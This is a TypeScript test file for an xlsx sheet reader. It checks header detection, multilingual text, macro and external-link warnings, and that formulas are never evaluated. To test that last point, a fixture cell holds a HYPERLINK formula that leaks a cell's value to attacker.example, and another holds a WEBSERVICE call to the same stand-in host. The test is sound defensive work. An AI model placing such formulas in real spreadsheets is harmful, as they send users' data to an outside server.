import ExcelJS from 'exceljs';
import { readAll, tempFolder } from '../testing/sheet-fixtures';
import { minimalXlsx } from '../testing/zip-fixture';

const folder = tempFolder('xlsx');
afterAll(() => folder.cleanup());

async function workbookFile(name: string, build: (wb: ExcelJS.Workbook) => void): Promise<string> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  return folder.file(name, Buffer.from(await wb.xlsx.writeBuffer()));
}

describe('readSheet on xlsx', () => {
  it('reads cell values as Excel shows them and never evaluates formulas', async () => {
    const file = await workbookFile('values.xlsx', (wb) => {
      const ws = wb.addWorksheet('Products');
      ws.addRow(['Product export']);
      ws.addRow([]);
      ws.addRow(['Description', 'HS code', 'Price', 'Date', 'Stamp', 'Flag', 'Sum', 'Link', 'Empty formula', 'Web', 'Error', 'Big']);
      ws.addRow([
        { richText: [{ text: 'Cotton ' }, { font: { bold: true }, text: 'shirt' }] },
        6109100012,
        12.5,
        new Date(Date.UTC(2024, 4, 17)),
        new Date(Date.UTC(2024, 4, 17, 13, 45, 30)),
        true,
        { formula: '1+1', result: 2 },
        { formula: 'HYPERLINK("http://attacker.example/?leak="&A4,"click")', result: 'click' },
        { formula: 'WEBSERVICE("http://attacker.example")' },
        { text: 'Spec sheet', hyperlink: 'https://example.com/spec' },
        { error: '#N/A' },
        1e21,
      ]);
      ws.getCell('D4').numFmt = 'yyyy-mm-dd';
      ws.getCell('E4').numFmt = 'yyyy-mm-dd hh:mm:ss';
      wb.addWorksheet('Other').addRow(['description']);
    });
    const out = await readAll(file, 'xlsx');
    expect(out.header.header_row).toBe(3);
    expect(out.header.warnings).toContain('extra_sheets_ignored');
    expect(out.warnings).toEqual(expect.arrayContaining(['extra_sheets_ignored', 'formulas_read_as_values']));
    expect(out.rows).toEqual([
      {
        row_index: 4,
        cells: {
          Description: 'Cotton shirt',
          'HS code': '6109100012',
          Price: '12.5',
          Date: '2024-05-17',
          Stamp: '2024-05-17T13:45:30.000Z',
          Flag: 'TRUE',
          Sum: '2',
          Link: 'click',
          'Empty formula': '',
          Web: 'Spec sheet',
          Error: '#N/A',
          Big: '1e+21',
        },
      },
    ]);
  });

  it('reads Vietnamese, Japanese and Korean text, skips blank rows and keeps worksheet row numbers', async () => {
    const file = await workbookFile('cjk.xlsx', (wb) => {
      const ws = wb.addWorksheet('Sheet1');
      ws.getRow(2).values = ['Mô tả', '品名', '원산지'];
      ws.getRow(3).values = ['Áo sơ mi nam cotton', 'ステンレス製ボトル', '대한민국'];
      ws.getRow(4).values = ['  ', '', null];
      ws.getRow(7).values = ['Giày thể thao', '革靴', '베트남'];
    });
    const out = await readAll(file, 'xlsx');
    expect(out.header).toMatchObject({ columns: ['Mô tả', '品名', '원산지'], header_row: 2 });
    expect(out.rows.map((r) => [r.row_index, r.cells['Mô tả'], r.cells['品名'], r.cells['원산지']])).toEqual([
      [3, 'Áo sơ mi nam cotton', 'ステンレス製ボトル', '대한민국'],
      [7, 'Giày thể thao', '革靴', '베트남'],
    ]);
    expect(out.blank_rows).toBe(1);
  });

  it('reads only the sheet Excel shows first', async () => {
    const file = await workbookFile('order.xlsx', (wb) => {
      wb.addWorksheet('First').addRows([['description'], ['from the first sheet']]);
      wb.addWorksheet('Second').addRows([['description'], ['from the second sheet']]);
    });
    const out = await readAll(file, 'xlsx');
    expect(out.rows.map((r) => r.cells.description)).toEqual(['from the first sheet']);
  });

  it('warns about macros and external links and reads the values', async () => {
    const rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>description</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Shirt</t></is></c></row>';
    const file = folder.file(
      'macros.xlsx',
      minimalXlsx(rows, [
        { name: 'xl/vbaProject.bin', data: Buffer.from('fake macro code') },
        { name: 'xl/externalLinks/externalLink1.xml', data: '<externalLink/>' },
      ]),
    );
    const out = await readAll(file, 'xlsx');
    expect(out.header.warnings).toEqual(expect.arrayContaining(['macros_ignored', 'external_links_ignored']));
    expect(out.rows).toEqual([{ row_index: 2, cells: { description: 'Shirt' } }]);
  });

  it('reads shared strings stored after the worksheet, as Excel orders them', async () => {
    const rows = '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2"><v>42</v></c></row>';
    const strings = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>description</t></si><si><r><t>Giày </t></r><r><t>thể thao</t></r></si></sst>';
    const file = folder.file('excel-order.xlsx', minimalXlsx(rows, [{ name: 'xl/sharedStrings.xml', data: strings }]));
    const out = await readAll(file, 'xlsx');
    expect(out.header.columns).toEqual(['description']);
    expect(out.rows).toEqual([{ row_index: 2, cells: { description: 'Giày thể thao' } }]);
  });

  it('refuses a workbook without a header', async () => {
    const file = await workbookFile('empty.xlsx', (wb) => void wb.addWorksheet('Empty'));
    await expect(readAll(file, 'xlsx')).rejects.toMatchObject({ reason: 'no_header' });
  });
});
